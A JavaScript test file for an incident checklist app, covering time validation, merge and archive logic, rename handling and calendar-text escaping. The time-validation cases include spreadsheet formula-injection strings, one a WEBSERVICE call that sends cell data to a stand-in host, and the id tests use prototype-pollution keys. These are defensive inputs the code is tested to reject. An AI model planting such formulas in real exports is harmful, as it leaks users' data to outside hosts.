// Found by a review of the merged work: paths where the reader's work was lost or a hostile file got
// through. Each test fails on the code before its fix.
import { test, beforeEach } from "node:test";
import assert from "node:assert/strict";
import * as store from "../../overrides/assets/javascripts/guidebook/store.js";
import * as merge from "../../overrides/assets/javascripts/guidebook/merge.js";
import { isTime } from "../../overrides/assets/javascripts/guidebook/saved.js";
import { incidentTest } from "../../overrides/assets/javascripts/guidebook/scope.js";
import { currentId, readData } from "../../overrides/assets/javascripts/guidebook/transfer.js";
import { icsText } from "../../overrides/assets/javascripts/guidebook/shift.js";
import { BOOK, FakeStorage, NOW, at, installStorage } from "./support.mjs";

const isIncident = incidentTest(BOOK);

beforeEach(() => {
  installStorage(new FakeStorage({}));
  store.load(NOW);
});

const incoming = (checks, log = [], incident = null) => ({
  checks: new Map(Object.entries(checks).map(([id, items]) => [id, new Map(Object.entries(items))])), log, incident,
});

for (const [text, ok] of [
  ["2026-11-23T09:00:00.000Z", true],
  ["2026-11-23T09:00Z", true],
  ["2026-11-23T04:00:00-05:00", true],
  ['=HYPERLINK("http://x") 1 Jan 2026', false],
  ['=WEBSERVICE("http://e.x/?"&A1) 2026', false],
  ["1 Jan 2026", false],
  ["2026-11-23", false],
]) {
  test(`a time is an ISO time with its zone, nothing Date.parse merely accepts: ${JSON.stringify(text)} -> ${ok}`, () => {
    assert.equal(isTime(text, NOW), ok);
  });
}

test("a merge never takes a check carrying a note for a copy without it (the note stays in the log)", () => {
  // This device checked at T1, the other undid it later; then this device wrote a note on it.
  store.setChecked("police-first-hours", "secure-scene", true, at(5));
  store.setCheckRecord("police-first-hours", "secure-scene", { note: "Statement posted" }, at(1));
  const theirs = [{ checklist: "police-first-hours", item: "secure-scene", at: at(5), undone: at(2) }];
  merge.mergeIncident(incoming({}, theirs), isIncident);
  const kept = [...store.undoneLog()].filter((e) => e.item === "secure-scene");
  assert.ok(kept.some((e) => e.note === "Statement posted"), JSON.stringify(kept));
});

test("archiving copies every check: a later edit of a kept preparation check leaves the archive as it was", () => {
  store.setChecked("stakeholders", "list-contacts", true, at(3));
  store.setCheckRecord("stakeholders", "list-contacts", { who: "Alice" }, at(2));
  assert.equal(store.archiveIncident(isIncident, at(1)), true);
  store.setCheckRecord("stakeholders", "list-contacts", { who: "Bob" });
  assert.equal(store.checkOf("stakeholders", "list-contacts").who, "Bob");
  assert.equal(store.archived()[0].checks.get("stakeholders").get("list-contacts").who, "Alice");
});

test("Undo of a reset puts each check back as it was, with its who and note", () => {
  store.setChecked("police-first-hours", "secure-scene", true, at(3));
  store.setCheckRecord("police-first-hours", "secure-scene", { who: "Sgt. Diaz", note: "radioed" }, at(2));
  const before = { ...store.checkOf("police-first-hours", "secure-scene") };
  store.clearChecklist("police-first-hours");
  store.restoreCheck("police-first-hours", "secure-scene", before);
  assert.deepEqual(store.checkOf("police-first-hours", "secure-scene"), before);
});

const RENAMED = { ...BOOK, renamed: { "old-secure-scene": "secure-scene" } };

test("a file or link made before an item was renamed keeps its check under the item's id today", () => {
  const data = { checklists: [{ id: "police-first-hours", ticked: [{ id: "old-secure-scene", ticked_at: at(2), who: "Ruiz" }] }],
    undone: [{ checklist: "police-first-hours", item: "old-secure-scene", at: at(4), undone: at(3) }] };
  const read = readData(data, RENAMED, NOW);
  assert.equal(read.checks.get("police-first-hours").get("secure-scene").who, "Ruiz");
  assert.deepEqual(read.log.map((e) => e.item), ["secure-scene"]);
  assert.deepEqual(read.ignored, []);
});

for (const hostile of [{ toString: 1, valueOf: 1 }, 42, null, ["a"]]) {
  test(`an id that is not text is read as no id, never thrown on: ${JSON.stringify(hostile)}`, () => {
    assert.equal(currentId(RENAMED, hostile), "?");
    const data = { checklists: [{ id: "police-first-hours", ticked: [{ id: hostile, ticked_at: at(2) }] }, { id: hostile }] };
    assert.doesNotThrow(() => readData(data, RENAMED, NOW));
  });
}

test("an id that names an inherited property is no rename", () => {
  assert.equal(currentId(RENAMED, "constructor"), "constructor");
  assert.equal(currentId(RENAMED, "__proto__"), "__proto__");
});

for (const [text, expected] of [
  ["a\r\nb", "a\\nb"], ["a\rb", "a\\nb"], ["a\nb", "a\\nb"], ["a;b,c\\d", "a\\;b\\,c\\\\d"], ["a\u0007b\u007f", "ab"],
]) {
  test(`calendar text escapes line breaks and drops control characters: ${JSON.stringify(text)}`, () => {
    assert.equal(icsText(text), expected);
  });
}
